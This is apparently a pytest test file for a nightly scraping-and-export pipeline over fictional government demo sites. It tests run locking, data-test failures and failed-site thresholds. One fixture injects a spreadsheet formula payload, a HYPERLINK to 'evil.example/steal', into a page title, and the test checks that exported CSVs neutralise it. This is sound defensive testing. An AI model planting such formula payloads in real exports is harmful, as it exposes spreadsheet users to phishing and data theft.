"""The nightly flow under attack: a hijacked page's formula title, a second run, failing data tests, a dead night.

The sites are copies of the fictional demo site 鹭汀区, served on OS-chosen loopback ports.
"""
from __future__ import annotations

import csv
import os
import shutil
import stat
from pathlib import Path

import duckdb
import pytest

from fzzf.loopback import serve_sites
from fzzf.sites.registry import DEMO_DIR
from fzzf.warehouse import db, marts

FORMULA = '=HYPERLINK("http://evil.example/steal","点击查看")'
REPORT = "zwgk/fzzfjsndbg/202403/t20240328_1000123.html"
TITLE = "鹭汀区人民政府关于2023年法治政府建设情况的报告"
REGISTRY = """
[[site]]
id = "luting"
name = "云梧市鹭汀区人民政府（虚构演示站点）"
province = "岚川省"
city = "云梧市"
district = "鹭汀区"
level = "district"
admin_code = "990102"
family = "trs"
start_urls = ["{luting}/zwgk/fzzfjsndbg/index.html"]
"""
DEAD = """
[[site]]
id = "dead"
name = "一个关了门的站点（虚构）"
province = "岚川省"
level = "county"
start_urls = ["http://127.0.0.1:9/col/index.html"]
"""


@pytest.fixture
def hijacked(tmp_path):
    """鹭汀区 with its 2023 report's title turned into a spreadsheet formula (a hijacked site)."""
    root = tmp_path / "sites"
    shutil.copytree(DEMO_DIR / "luting", root / "luting")
    for page in (root / "luting" / REPORT, root / "luting" / "zwgk/fzzfjsndbg/index.html"):
        html = page.read_text(encoding="utf-8").replace(TITLE, FORMULA.replace('"', "&quot;") + TITLE)
        page.write_text(html, encoding="utf-8")
    servers = serve_sites(root)
    registry = tmp_path / "registry.toml"
    registry.write_text(REGISTRY.replace("{luting}", servers["luting"].base_url), encoding="utf-8")
    yield registry
    for server in servers.values():
        server.stop()


def _run(registry: Path, tmp_path: Path, *extra: str) -> int:
    from fzzf.cli import main

    return main(["run", "--registry", str(registry), "--db", str(tmp_path / "fzzf.duckdb"),
                 "--export", str(tmp_path / "exports"), "--min-interval", "0.01", "--site-retries", "0", *extra])


def test_formula_title_from_a_served_page_is_neutralised_in_exports(prefect_harness, hijacked, tmp_path):
    old = os.umask(0o022)
    try:
        assert _run(hijacked, tmp_path, "--lang", "en") == 0  # the English keys, through the flow
    finally:
        os.umask(old)
    compliance = tmp_path / "exports" / "latest" / "mart_report_compliance.csv"
    with open(compliance, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    titles = [r["title"] for r in rows]
    assert "'" + FORMULA + TITLE in titles
    for path in (tmp_path / "exports" / "latest").glob("*.csv"):
        with open(path, encoding="utf-8-sig", newline="") as handle:
            assert not [c for row in csv.reader(handle) for c in row if c[:1] in ("=", "+", "@")], path.name
    assert stat.S_IMODE((tmp_path / "fzzf.duckdb").stat().st_mode) == 0o644
    assert stat.S_IMODE(compliance.stat().st_mode) == 0o644


def test_second_run_while_one_holds_the_warehouse_exits_non_zero(prefect_harness, hijacked, tmp_path, capsys):
    with db.run_lock(tmp_path / "fzzf.duckdb"):
        assert _run(hijacked, tmp_path) == 75
    err = capsys.readouterr().err
    assert "another fzzf run holds the lock" in err and "Traceback" not in err
    assert not (tmp_path / "fzzf.duckdb").exists()


def test_failing_data_tests_keep_the_last_good_file_and_exit_non_zero(prefect_harness, hijacked, tmp_path,
                                                                       monkeypatch, capsys):
    assert _run(hijacked, tmp_path) == 0
    live = tmp_path / "fzzf.duckdb"
    good, good_latest = live.read_bytes(), os.readlink(tmp_path / "exports" / "latest")
    sql = tmp_path / "sql"
    shutil.copytree(marts.SQL_DIR, sql)
    (sql / "tests" / "zz_always_fails.sql").write_text("select 'planted failure' as why\n", encoding="utf-8")
    monkeypatch.setattr(marts, "SQL_DIR", sql)
    assert _run(hijacked, tmp_path) == 1
    captured = capsys.readouterr()
    assert "zz_always_fails" in captured.err and "RUN FAILED" in captured.out
    assert live.read_bytes() == good
    assert os.readlink(tmp_path / "exports" / "latest") == good_latest
    con = duckdb.connect(str(db.work_path(live)), read_only=True)
    try:
        assert con.execute("select status from runs order by started_at").fetchall() == [("completed",), ("failed",)]
    finally:
        con.close()


def test_a_night_where_every_site_failed_is_a_failed_prefect_run(prefect_harness, tmp_path):
    from fzzf.flows.nightly import nightly

    registry = tmp_path / "registry.toml"
    registry.write_text(DEAD, encoding="utf-8")
    state = nightly(registry=str(registry), db_path=str(tmp_path / "fzzf.duckdb"),
                    export_dir=str(tmp_path / "exports"), min_interval_s=0.01, site_retries=0,
                    return_state=True)
    assert state.is_failed()
    assert "every site failed (1 of 1)" in state.message
    assert _run(registry, tmp_path) == 1


def test_more_than_the_allowed_share_of_failed_sites_fails_the_run(prefect_harness, hijacked, tmp_path):
    both = tmp_path / "both.toml"
    both.write_text(hijacked.read_text(encoding="utf-8") + DEAD, encoding="utf-8")
    assert _run(both, tmp_path) == 0  # one of two failed: within the default (fail only when all fail)
    assert _run(both, tmp_path, "--max-failed-share", "0.25") == 1


def test_retries_are_on_the_per_site_recrawl_not_the_batch():
    # A batch crawl never raises (a site's failures are typed outcomes); a site unreachable as a whole goes to
    # `recrawl`, which raises while it stays unreachable, so those are the retries that can fire.
    from fzzf.flows import nightly

    assert nightly.crawl.retries == 0
    assert nightly.DEFAULT_SITE_RETRIES > 0  # the batch crawl is the first try, recrawl's first run the 2nd
    assert nightly.recrawl.retries == nightly.DEFAULT_SITE_RETRIES - 1
